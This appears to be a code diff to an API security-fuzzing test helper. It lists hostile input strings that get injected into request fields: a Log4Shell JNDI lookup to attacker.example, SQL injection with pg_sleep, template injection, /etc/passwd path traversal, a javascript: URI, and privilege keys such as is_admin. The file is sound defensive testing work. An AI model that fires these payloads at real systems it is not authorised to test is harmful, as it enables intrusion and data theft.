@@ -45,6 +45,7 @@ export const HOSTILE_STRINGS = [
   '1; select pg_sleep(10)',
   '$$; select 1; $$',
   '{{7*7}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, sent as literal text.
   '${jndi:ldap://attacker.example/a}',
   '../../../../etc/passwd',
   'javascript:alert(1)',
@@ -108,7 +109,10 @@ function tooLong(spec: FieldSpec): string | null {
 function fieldMutations({ valid, fields, strictTypes, ignoresExtraFields }: EndpointSpec): Mutation[] {
   const mutations: Mutation[] = [];
   const set = (field: string, label: string, value: unknown) =>
-    mutations.push({ label: `${field}: ${label}`, apply: (body) => void (body[field] = value) });
+    mutations.push({ label: `${field}: ${label}`, apply: (body) => {
+        body[field] = value;
+      },
+    });
 
   // Each field gets a rotating share of the unprintable and hostile strings; together the fields use them all.
   const share = <T>(items: T[], index: number, size: number) =>
@@ -162,7 +166,10 @@ function fieldMutations({ valid, fields, strictTypes, ignoresExtraFields }: Endp
   }
   const extraKeys = ignoresExtraFields ? [] : [...HOSTILE_STRINGS.filter((hostile) => hostile !== ''), 'is_admin', 'role ', 'constructor'];
   for (const key of extraKeys) {
-    mutations.push({ label: `extra field ${JSON.stringify(key)}`, apply: (body) => void (body[key] = 'x') });
+    mutations.push({ label: `extra field ${JSON.stringify(key)}`, apply: (body) => {
+        body[key] = 'x';
+      },
+    });
   }
   return mutations;
 }
